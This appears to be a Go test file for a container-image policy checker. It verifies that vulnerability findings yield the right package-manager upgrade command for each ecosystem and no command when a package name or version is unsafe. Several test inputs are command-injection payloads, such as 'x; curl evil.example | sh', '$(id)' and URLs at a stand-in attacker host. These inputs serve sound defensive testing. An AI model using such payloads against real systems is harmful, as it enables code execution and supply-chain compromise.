package policy_test

import (
	"strings"
	"testing"

	"github.com/attestor-gate/attestor"
)

// TestFixesFit: a fix names the command of the package's own manager or the base, whichever clears the finding, and no command where the
// manager is not known or the name is none.
func TestFixesFit(t *testing.T) {
	const digest = "sha256:"
	inBase := func(v *attestor.Vulnerability) {
		v.DiffIDs = []attestor.Digest{digest + attestor.Digest(strings.Repeat("b", 64))}
	}
	named := func(kind, name, fixed string) func(*attestor.Vulnerability) {
		return func(v *attestor.Vulnerability) {
			v.PackageType, v.Package, v.FixedVersion, v.Severity = kind, name, fixed, attestor.High
		}
	}
	scanned := func(id string) func(*attestor.PlatformEvidence) {
		return func(e *attestor.PlatformEvidence) {
			e.Scan.System = &attestor.System{ID: id, Source: attestor.SystemFromScan}
		}
	}
	newer := func(e *attestor.PlatformEvidence) { e.Base.Newest = digest + attestor.Digest(strings.Repeat("9", 64)) }
	for _, tt := range []struct {
		name   string
		v      []func(*attestor.Vulnerability)
		change []func(*attestor.PlatformEvidence)
		want   string
	}{
		{"Debian", []func(*attestor.Vulnerability){named("OS", "libssl3", "3.0.15-1~deb12u1")}, []func(*attestor.PlatformEvidence){scanned("debian")},
			"update libssl3 to 3.0.15-1~deb12u1: apt-get update && apt-get install -y --only-upgrade libssl3"},
		{"Alpine", []func(*attestor.Vulnerability){named("OS", "busybox", "")}, []func(*attestor.PlatformEvidence){
			scanned("alpine")}, "update busybox: apk add --no-cache --upgrade busybox"},
		{"Rocky", []func(*attestor.Vulnerability){named("OS", "openssl-libs", "1:3.2.2-6.el9")},
			[]func(*attestor.PlatformEvidence){scanned("rocky")},
			"update openssl-libs to 1:3.2.2-6.el9: dnf upgrade -y openssl-libs"},
		{"SUSE", []func(*attestor.Vulnerability){named("OS", "zlib", "")},
			[]func(*attestor.PlatformEvidence){scanned("sles")}, "update zlib: zypper --non-interactive update zlib"},
		{"the image's own word before the scan's", []func(*attestor.Vulnerability){named("OS", "zlib", "")},
			[]func(*attestor.PlatformEvidence){scanned("debian"), inImage(&attestor.System{ID: "alpine"})}, "update zlib: apk add --no-cache --upgrade zlib"},
		{"a distribution that nobody knows", []func(*attestor.Vulnerability){named("OS", "zlib", "1.3")}, nil, "update zlib to 1.3"},
		{"a distribution of another kind", []func(*attestor.Vulnerability){named("OS", "zlib", "1.3")},
			[]func(*attestor.PlatformEvidence){scanned("house-os")}, "update zlib to 1.3"},

		{"Go", []func(*attestor.Vulnerability){named("GO", "golang.org/x/net", "0.38.0")}, nil,
			"update golang.org/x/net to 0.38.0: go get golang.org/x/net@v0.38.0 && go mod tidy"},
		{"Go, with its v", []func(*attestor.Vulnerability){named("GO", "golang.org/x/net", "v0.38.0")}, nil,
			"update golang.org/x/net to v0.38.0: go get golang.org/x/net@v0.38.0 && go mod tidy"},
		{"Go's library", []func(*attestor.Vulnerability){named("GO_STDLIB", "stdlib", "1.26.1")}, nil, "update stdlib to 1.26.1: build with Go 1.26.1"},
		{"npm", []func(*attestor.Vulnerability){named("NPM", "@acme/left-pad", "1.3.1")}, nil,
			"update @acme/left-pad to 1.3.1: npm install @acme/left-pad@1.3.1"},
		{"PyPI", []func(*attestor.Vulnerability){named("PYPI", "requests", "2.32.4")}, nil,
			"update requests to 2.32.4: pip install --upgrade requests==2.32.4"},
		{"Maven", []func(*attestor.Vulnerability){named("MAVEN", "org.x:y", "2.17.1")}, nil,
			"update org.x:y to 2.17.1: set its version in pom.xml or build.gradle"},
		{"NuGet", []func(*attestor.Vulnerability){named("NUGET", "Newtonsoft.Json", "13.0.3")}, nil,
			"update Newtonsoft.Json to 13.0.3: dotnet add package Newtonsoft.Json --version 13.0.3"},
		{"Ruby", []func(*attestor.Vulnerability){named("RUBYGEMS", "rack", "3.1.16")}, nil, "update rack to 3.1.16: bundle update --conservative rack"},
		{"Rust", []func(*attestor.Vulnerability){named("RUST", "openssl", "0.10.72")}, nil,
			"update openssl to 0.10.72: cargo update --package openssl --precise 0.10.72"},
		{"Composer", []func(*attestor.Vulnerability){named("COMPOSER", "a/b", "1.2")}, nil,
			"update a/b to 1.2: composer require --update-with-dependencies a/b:1.2"},
		{"a kind that nobody knows", []func(*attestor.Vulnerability){named("HEX", "plug", "1.2")}, nil, "update plug to 1.2"},
		{"no kind", []func(*attestor.Vulnerability){named("", "plug", "1.2")}, nil, "update plug to 1.2"},

		// Whoever names a package must not write a command that people paste.
		{"a name with a command", []func(*attestor.Vulnerability){named("NPM", "x; curl evil.example | sh", "1")},
			nil, "update x; curl evil.example | sh to 1"},
		{"a name with a substitution", []func(*attestor.Vulnerability){named("NPM", "$(id)", "1")}, nil, "update $(id) to 1"},
		{"a name that is an option", []func(*attestor.Vulnerability){named("NPM", "--script-shell=/x", "1")}, nil, "update --script-shell=/x to 1"},
		{"a version with a command", []func(*attestor.Vulnerability){named("PYPI", "x", "1 && id")}, nil, "update x to 1 && id"},
		{"several versions", []func(*attestor.Vulnerability){named("NPM", "x", "1.2, 2.3")}, nil, "update x to 1.2, 2.3"},
		{"a version that is an address", []func(*attestor.Vulnerability){named("NPM", "x", "https://evil.example/x.tgz")}, nil,
			"update x to https://evil.example/x.tgz"},
		{"a version that is another package", []func(*attestor.Vulnerability){named("NPM", "x", "npm:evil@1")}, nil, "update x to npm:evil@1"},
		{"a version that is a branch", []func(*attestor.Vulnerability){named("GO", "golang.org/x/net", "main")}, nil, "update golang.org/x/net to main"},
		{"a name that is an address", []func(*attestor.Vulnerability){named("NPM", "https://evil.example/x", "1")}, nil,
			"update https://evil.example/x to 1"},
		{"a name that is a repository", []func(*attestor.Vulnerability){named("NPM", "evil/x", "1")}, nil, "update evil/x to 1"},
		{"a name with an address", []func(*attestor.Vulnerability){named("PYPI", "x@https://evil.example/x.whl", "1")}, nil,
			"update x@https://evil.example/x.whl to 1"},
		{"a name with a path", []func(*attestor.Vulnerability){named("GO", "example.com/../../x", "1.2")}, nil, "update example.com/../../x to 1.2"},
		{"a name that removes", []func(*attestor.Vulnerability){named("OS", "bash-", "")}, []func(*attestor.PlatformEvidence){scanned("debian")},
			"update bash-"},
		{"a name with a release", []func(*attestor.Vulnerability){named("OS", "bash/sid", "")}, []func(*attestor.PlatformEvidence){scanned("debian")},
			"update bash/sid"},
		{"a name with plus signs", []func(*attestor.Vulnerability){named("OS", "libstdc++6", "12.2.0-14")},
			[]func(*attestor.PlatformEvidence){scanned("debian")},
			"update libstdc++6 to 12.2.0-14: apt-get update && apt-get install -y --only-upgrade libstdc++6"},
		{"a name that ends with them", []func(*attestor.Vulnerability){named("OS", "g++", "")},
			[]func(*attestor.PlatformEvidence){scanned("debian")}, "update g++: apt-get update && apt-get install -y --only-upgrade g++"},
		{"a name of two lines", []func(*attestor.Vulnerability){named("NPM", "x\nid", "1")}, nil, "update x\nid to 1"},

		{"the base has a newer version", []func(*attestor.Vulnerability){named("OS", "zlib", "1.3"), inBase},
			[]func(*attestor.PlatformEvidence){scanned("debian"), newer},
			"rebuild on the base's current version: FROM registry.example/base/static@sha256:" + strings.Repeat("9", 64)},
		{"the base has none", []func(*attestor.Vulnerability){named("OS", "zlib", "1.3"), inBase}, []func(*attestor.PlatformEvidence){scanned("debian")},
			"wait for the next version of the base static, or update zlib to 1.3 in a layer of your own: apt-get " +
				"update && apt-get install -y --only-upgrade zlib"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := with(t)
			var changes []func(*attestor.Evidence)
			for _, c := range tt.change {
				changes = append(changes, on(c))
			}
			c := check(t, p.Judge(passing(p, append(changes, findings(vulnerability("CVE-2026-1", tt.v...)))...)), attestor.CheckVulnerabilities)
			if got := c.Reasons[0].Fix; got != tt.want {
				t.Errorf("%q\nwant %q", got, tt.want)
			}
		})
	}
}

// TestFindingWithoutALayer: it may be the base's, and is not called the image's own.
func TestFindingWithoutALayer(t *testing.T) {
	p := with(t)
	own := func(v *attestor.Vulnerability) {
		v.DiffIDs = []attestor.Digest{"sha256:" + attestor.Digest(strings.Repeat("d", 64))}
	}
	in := func(name string) func(*attestor.Vulnerability) {
		return func(v *attestor.Vulnerability) { v.Package, v.Severity = name, attestor.High }
	}
	c := check(t, p.Judge(passing(p, findings(vulnerability("CVE-1-1", in("zlib")), vulnerability("CVE-1-2", in("curl"), own)))), attestor.CheckVulnerabilities)
	for _, r := range c.Reasons {
		if r.Subject == "CVE-1-1" && strings.Contains(r.Message, "own layers") {
			t.Errorf("%+v", r)
		}
	}
	last := c.Reasons[len(c.Reasons)-1].Message
	if !strings.Contains(last, "update 1 package in your own layers (curl); update 1 package (zlib)") {
		t.Errorf("the shortest way: %s", last)
	}
}
